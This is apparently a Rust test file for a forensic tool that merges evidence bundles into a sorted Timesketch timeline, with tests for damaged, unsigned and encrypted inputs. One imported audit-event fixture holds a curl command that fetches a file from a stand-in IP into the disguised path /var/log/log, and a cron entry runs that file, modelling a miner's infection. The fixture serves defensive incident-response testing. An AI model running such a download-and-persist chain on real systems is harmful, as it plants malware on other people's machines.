//! `dossier timeline` (issue 17): bundles of the miner and clean fixtures and an import bundle
//! of events become one Timesketch JSONL timeline: every line has `message`, `datetime`,
//! `timestamp_desc` and `timestamp`, lines are sorted by time, the same bundles in another
//! order give the same bytes (to a file or to stdout), known facts are there with the member
//! they come from (the miner's `/var/log/log` modification time, btmp's failed logins, an
//! imported event at its own time), a damaged bundle is left out with exit status 1, and the
//! custody ledger records the timeline.

use dossier_bundle::reader::parse_manifest;
use dossier_bundle::writer::BundleWriter;
use dossier_plugin_api::collect::EvidenceSink;
use dossier_tests::*;
use serde_json::{Value, json};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// An import bundle in `dir` (host `esxi-web01`, like the miner) whose `records/events.jsonl`
/// holds two events and one with a time that is not RFC 3339.
fn import_bundle(dir: &Path, like: &Path) -> PathBuf {
    let mut m = parse_manifest(&member(like, "manifest.json")).unwrap();
    m.members.clear();
    m.collectors.clear();
    let mut w = BundleWriter::create(dir, "import").unwrap();
    w.begin_collector("events");
    let events = [
        json!({"time": "2025-11-05T00:50:01.25Z", "host": "esxi-web01",
               "source": {"format": "audit", "table": "SYSCALL"}, "action": "EXECVE",
               "process": {"pid": 4242, "exe": "/usr/bin/curl", "user": "alice",
                           "command_line": "curl -s http://192.0.2.99/x -o /var/log/log"},
               "peer": {"addr": "192.0.2.99", "port": 80},
               "origin": {"file": "imported/audit.log", "record": "lines 10-14 (serial 812)"}}),
        json!({"time": "2025-11-05T00:51:00Z", "host": "esxi-web01",
               "source": {"format": "journal", "table": "CRON"}, "action": "message",
               "script": "(root) CMD (/var/log/log)",
               "fields": {"_SYSTEMD_UNIT": "cron.service"},
               "origin": {"file": "imported/journal.json", "record": "line 3"}}),
        json!({"time": "yesterday", "host": "esxi-web01",
               "source": {"format": "journal"}, "action": "message",
               "origin": {"file": "imported/journal.json", "record": "line 4"}}),
    ];
    for e in events {
        w.record("events", e).unwrap();
    }
    w.end_collector("events").unwrap();
    w.finish(m, "esxi-web01-import").unwrap().path
}

/// An import bundle in `dir` of `n` events, their times out of order.
fn many_events_bundle(dir: &Path, like: &Path, n: u32) -> PathBuf {
    let mut m = parse_manifest(&member(like, "manifest.json")).unwrap();
    m.members.clear();
    m.collectors.clear();
    let mut w = BundleWriter::create(dir, "import").unwrap();
    w.begin_collector("events");
    for i in 0..n {
        let s = (i * 7919) % n;
        let e = json!({"time": format!("2025-11-05T{:02}:{:02}:{:02}.{:03}Z", s / 3600 % 24, s / 60 % 60, s % 60, i % 1000),
            "host": "esxi-web01", "source": {"format": "audit", "table": "SYSCALL"},
            "action": "EXECVE", "process": {"pid": i, "command_line": format!("/bin/true {i}")},
            "origin": {"file": "imported/audit.log", "record": format!("line {i}")}});
        w.record("events", e).unwrap();
    }
    w.end_collector("events").unwrap();
    w.finish(m, "esxi-web01-many").unwrap().path
}

/// Collects a fixture root into `dir/out`.
fn collected(dir: &Path, fixture_name: &str) -> PathBuf {
    let root = fixture(fixture_name);
    collect(
        dir,
        &dir.join("out"),
        &["--no-analyze", "--root", root.to_str().unwrap()],
    )
}

fn timeline(dir: &Path, bundles: &[&Path], out: &str) -> std::process::Output {
    let mut args = vec!["timeline", "--out", out];
    args.extend(bundles.iter().map(|b| b.to_str().unwrap()));
    dossier(dir, &args)
}

/// Each line parsed, after checking Timesketch's required fields and the order.
fn rows(text: &str) -> Vec<Value> {
    let rows: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    for r in &rows {
        for f in [
            "message",
            "datetime",
            "timestamp_desc",
            "host",
            "bundle",
            "bundle_sha256",
        ] {
            assert!(r[f].is_string(), "{f} missing: {r}");
        }
        let dt = chrono_like(r["datetime"].as_str().unwrap());
        assert_eq!(Some(dt), r["timestamp"].as_i64(), "{r}");
        assert!(r.get("member").is_some(), "{r}");
    }
    let times: Vec<i64> = rows
        .iter()
        .map(|r| r["timestamp"].as_i64().unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "not sorted by time");
    rows
}

/// Microseconds since the epoch of `2025-11-05T00:46:40.123456+00:00`.
fn chrono_like(s: &str) -> i64 {
    let t = dossier_plugin_api::Timestamp::parse(s).unwrap_or_else(|| panic!("not ISO 8601: {s}"));
    let d = t.datetime();
    d.timestamp() * 1_000_000 + i64::from(d.timestamp_subsec_micros())
}

#[test]
fn bundles_and_imported_events_make_one_sorted_deterministic_timesketch_timeline() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let clean = collected(d.path(), "rootfs-clean");
    let imp_dir = d.path().join("imported");
    let imported = import_bundle(&imp_dir, &miner);

    let o = timeline(d.path(), &[&miner, &clean, &imported], "t1.jsonl");
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("(2 imported event(s))")
            && stdout(&o).contains("1 record line(s) not in the timeline")
            && stdout(&o).contains("\"yesterday\" is not RFC 3339"),
        "{}",
        stdout(&o)
    );
    let o = timeline(d.path(), &[&imported, &clean, &miner], "t2.jsonl");
    assert!(o.status.success(), "{}", stderr(&o));
    let t1 = std::fs::read(d.path().join("t1.jsonl")).unwrap();
    assert_eq!(t1, std::fs::read(d.path().join("t2.jsonl")).unwrap());
    let o = timeline(d.path(), &[&clean, &imported, &miner], "-");
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(o.stdout, t1, "stdout and file differ");
    let mode = std::fs::metadata(d.path().join("t1.jsonl")).unwrap().mode();
    assert_eq!(mode & 0o777, 0o600);

    let rows = rows(&String::from_utf8(t1).unwrap());
    let hosts: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["host"].as_str().unwrap()).collect();
    assert_eq!(hosts.len(), 2, "{hosts:?}");

    // The miner's /var/log/log: its modification time as the fixture file has it, from the
    // manifest's entry of its verbatim copy.
    let meta = std::fs::metadata(fixture("rootfs-miner").join("var/log/log")).unwrap();
    let mtime = meta.mtime() * 1_000_000 + meta.mtime_nsec() / 1000;
    let log = rows
        .iter()
        .find(|r| {
            r["path"] == "/var/log/log"
                && r["timestamp_desc"] == "Modification time"
                && r["host"] == "esxi-web01"
                && r["bundle"].as_str().unwrap().ends_with(".zip")
                && r["raw_member"] == "raw/var/log/log"
        })
        .expect("the miner's /var/log/log modification time");
    assert_eq!(log["timestamp"].as_i64(), Some(mtime), "{log}");
    assert_eq!(log["member"], "manifest.json");
    let sha = sha256_file(&miner);
    assert_eq!(log["bundle_sha256"], sha.as_str());

    // btmp: three failed logins of alice from 192.0.2.10, from the sessions records.
    let failed: Vec<&Value> = rows
        .iter()
        .filter(|r| r["timestamp_desc"] == "Failed login time" && r["host"] == "esxi-web01")
        .collect();
    assert_eq!(failed.len(), 3);
    assert!(failed.iter().all(|r| r["user"] == "alice"
        && r["remote_host"] == "192.0.2.10"
        && r["member"] == "records/sessions.jsonl"
        && r["record_line"].is_u64()));

    // The cron persistence of the miner, as an entry with its file's times.
    assert!(rows.iter().any(|r| {
        r["timestamp_desc"] == "Modification time"
            && r["message"]
                .as_str()
                .unwrap()
                .starts_with("cron entry /etc/cron.d/python:3")
    }));

    // ... and not again as a bare copy: the entry's rows say what the file is.
    assert!(!rows.iter().any(|r| r["path"] == "/etc/cron.d/python"
        && r["host"] == "esxi-web01"
        && r["member"] == "manifest.json"));

    // Imported events at their own time, traceable to their line.
    let ev: Vec<&Value> = rows
        .iter()
        .filter(|r| r["timestamp_desc"] == "Event time")
        .collect();
    assert_eq!(ev.len(), 2, "{ev:?}");
    assert_eq!(ev[0]["datetime"], "2025-11-05T00:50:01.250000+00:00");
    assert_eq!(ev[0]["process_pid"], 4242);
    assert_eq!(ev[0]["member"], "records/events.jsonl");
    assert_eq!(ev[0]["record_line"], 1);
    assert!(
        ev[0]["message"]
            .as_str()
            .unwrap()
            .starts_with("EXECVE: /usr/bin/curl (pid 4242) `curl -s")
    );
    assert_eq!(ev[1]["fields__SYSTEMD_UNIT"], "cron.service");

    // The custody ledger beside the collected bundles records the timeline.
    let ledger = std::fs::read_to_string(d.path().join("out/custody.jsonl")).unwrap();
    assert!(ledger.contains("\"action\":\"timelined\""), "{ledger}");
}

#[test]
fn a_damaged_bundle_is_left_out_with_status_1_and_the_others_are_written() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let bad_dir = d.path().join("bad");
    std::fs::create_dir(&bad_dir).unwrap();
    let bad = bad_dir.join("copy.zip");
    let mut data = std::fs::read(&miner).unwrap();
    let n = data.len();
    data[n / 2] ^= 0x20;
    std::fs::write(&bad, data).unwrap();
    std::fs::copy(
        format!("{}.sha256", miner.display()),
        bad_dir.join("copy.zip.sha256"),
    )
    .unwrap();
    let o = timeline(d.path(), &[&bad, &miner], "t.jsonl");
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(stdout(&o).contains("NOT IN TIMELINE  "), "{}", stdout(&o));
    let text = std::fs::read_to_string(d.path().join("t.jsonl")).unwrap();
    let rows = rows(&text);
    assert!(!rows.is_empty());
    assert!(rows.iter().all(|r| r["bundle"] != "copy.zip"));
    // Only the damaged one: nothing written, status 1.
    let o = timeline(d.path(), &[&bad], "none.jsonl");
    assert_eq!(o.status.code(), Some(1));
    assert!(!d.path().join("none.jsonl").exists());
    // A directory as --out cannot run: status 2.
    let o = timeline(d.path(), &[&miner], d.path().to_str().unwrap());
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
}

#[test]
fn with_a_pubkey_only_bundles_whose_signature_verifies_are_in_the_timeline() {
    let d = tempfile::tempdir().unwrap();
    let (_, pk, signed) = crate::signing::signed_bundle(d.path());
    let other = d.path().join("other");
    std::fs::create_dir(&other).unwrap();
    let unsigned = collected(&other, "rootfs-miner");
    let pk = pk.to_str().unwrap();
    let o = dossier(
        d.path(),
        &[
            "timeline",
            "--out",
            "t.jsonl",
            "--pubkey",
            pk,
            signed.to_str().unwrap(),
            unsigned.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains(&format!(
            "NOT IN TIMELINE  {}: signature:",
            unsigned.display()
        )),
        "{}",
        stdout(&o)
    );
    let rows = rows(&std::fs::read_to_string(d.path().join("t.jsonl")).unwrap());
    let bundles: std::collections::BTreeSet<&str> =
        rows.iter().map(|r| r["bundle"].as_str().unwrap()).collect();
    let name = signed.file_name().unwrap().to_str().unwrap();
    assert_eq!(bundles.into_iter().collect::<Vec<_>>(), vec![name]);
}

#[test]
fn rows_over_the_sort_memory_are_merged_from_runs_into_the_same_bytes() {
    let d = tempfile::tempdir().unwrap();
    let miner = collected(d.path(), "rootfs-miner");
    let many = many_events_bundle(&d.path().join("imp"), &miner, 20_000);
    let bundles = [miner.to_str().unwrap(), many.to_str().unwrap()];
    let run = |out: &str, mib: &str| {
        let mut args = vec!["timeline", "--out", out, "--sort-memory", mib];
        args.extend(bundles);
        let o = dossier(d.path(), &args);
        assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
        stdout(&o)
    };
    let said = run("small.jsonl", "1");
    assert!(said.contains(" runs on disk)"), "{said}");
    let said = run("large.jsonl", "256");
    assert!(!said.contains("runs on disk"), "{said}");
    let small = std::fs::read(d.path().join("small.jsonl")).unwrap();
    assert_eq!(small, std::fs::read(d.path().join("large.jsonl")).unwrap());
    let rows = rows(&String::from_utf8(small).unwrap());
    assert!(rows.len() > 20_000 && rows.len() < 21_000, "{}", rows.len());
    // Nothing left behind beside the output.
    let left: Vec<_> = std::fs::read_dir(d.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("partial"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn an_encrypted_bundle_is_read_with_its_identity_and_refused_without() {
    let d = tempfile::tempdir().unwrap();
    let Some(x) = crate::encrypt::sealed(d.path()) else {
        return;
    };
    let b = x.bundle.to_str().unwrap();
    let o = dossier(d.path(), &["timeline", "--out", "t.jsonl", b]);
    assert_eq!(o.status.code(), Some(1), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains("encrypted bundle, and no --identity"),
        "{}",
        stdout(&o)
    );
    assert!(!d.path().join("t.jsonl").exists());
    let id = x.identity.to_str().unwrap();
    let o = dossier(
        d.path(),
        &["timeline", "--out", "t.jsonl", "--identity", id, b],
    );
    assert!(o.status.success(), "{}{}", stdout(&o), stderr(&o));
    let rows = rows(&std::fs::read_to_string(d.path().join("t.jsonl")).unwrap());
    let name = x.bundle.file_name().unwrap().to_str().unwrap();
    assert!(rows.len() > 50 && rows.iter().all(|r| r["bundle"] == name));
    assert!(
        rows.iter()
            .any(|r| r["timestamp_desc"] == "Failed login time")
    );
}
